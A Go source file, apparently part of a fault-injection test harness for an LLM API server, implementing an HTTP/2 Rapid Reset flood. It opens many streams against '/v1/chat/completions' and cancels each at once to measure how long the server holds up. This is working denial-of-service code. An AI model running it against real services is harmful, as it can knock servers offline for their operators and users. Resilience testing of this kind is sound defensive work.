package faultllm

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"io"
)

// RapidReset opens n streams of HTTP/2 on one connection and resets each at once, until stop is closed. It returns how
// many it opened before the other side had enough.
func RapidReset(addr string, authority []byte, n int, stop <-chan struct{}) (int, error) {
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(authority)
	c, err := tls.Dial("tcp", addr, &tls.Config{RootCAs: pool, NextProtos: []string{"h2"}, ServerName: "127.0.0.1"})
	if err != nil {
		return 0, err
	}
	defer c.Close()
	gone := make(chan struct{})
	go func() {
		defer close(gone)
		_, _ = io.Copy(io.Discard, c)
	}()
	w := bufio.NewWriter(c)
	if _, err := w.WriteString(preface); err != nil {
		return 0, err
	}
	if err := writeFrame(w, frameSettings, 0, 0, nil); err != nil {
		return 0, err
	}
	// POST and https from the static table, the path and the authority as literals.
	block := []byte{0x83, 0x87}
	block = append(append(block, 0x04, byte(len("/v1/chat/completions"))), "/v1/chat/completions"...)
	block = append(append(block, 0x01, byte(len(addr))), addr...)
	for i := range n {
		select {
		case <-stop:
			return i, nil
		case <-gone:
			return i, io.EOF
		default:
		}
		stream := uint32(2*i + 1)
		if err := writeFrame(w, frameHeaders, flagEndHeaders, stream, block); err != nil {
			return i, err
		}
		if err := writeFrame(w, frameReset, 0, stream, binary.BigEndian.AppendUint32(nil, 8)); err != nil { // CANCEL
			return i, err
		}
		if i%50 == 49 {
			if err := w.Flush(); err != nil {
				return i, err
			}
		}
	}
	return n, w.Flush()
}
